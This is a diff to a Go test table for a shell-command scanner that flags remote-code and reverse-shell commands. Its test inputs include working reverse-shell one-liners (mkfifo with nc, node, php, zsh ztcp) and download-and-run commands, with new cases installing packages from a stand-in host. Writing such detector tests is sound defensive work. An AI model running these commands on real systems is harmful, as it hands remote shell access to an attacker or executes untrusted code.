@@ -240,6 +240,8 @@ func TestFindingsOfCodeRoutes(t *testing.T) {
 		{"a download run by python", "wget -O /tmp/p.py https://h/p && python3 /tmp/p.py", []shell.FindingKind{shell.RemoteCode}},
 		{"a download sourced", "curl -so env.sh https://h && source env.sh", []shell.FindingKind{shell.RemoteCode}},
 		{"a shell piped to a network peer", "mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", []shell.FindingKind{shell.ReverseShell}},
+		{"a package installed from a URL", "pip install https://x.example/p.tar.gz", []shell.FindingKind{shell.RemoteCode}},
+		{"a package from an index elsewhere", "npm install --registry https://x.example/ lodash", []shell.FindingKind{shell.RemoteCode}},
 		{"node connecting and spawning a shell", `node -e 'const c=require("net").connect(1,"h");const p=require("child_process").spawn("sh");c.pipe(p.stdin)'`, []shell.FindingKind{shell.ReverseShell}},
 		{"php proc_open of a shell on a stream socket", `php -r '$s=stream_socket_client("tcp://h:1");proc_open("sh",[0=>$s,1=>$s],$p);'`, []shell.FindingKind{shell.ReverseShell}},
 		{"zsh's ztcp", "zmodload zsh/net/tcp; ztcp h 1; zsh <&$REPLY >&$REPLY", []shell.FindingKind{shell.ReverseShell}},
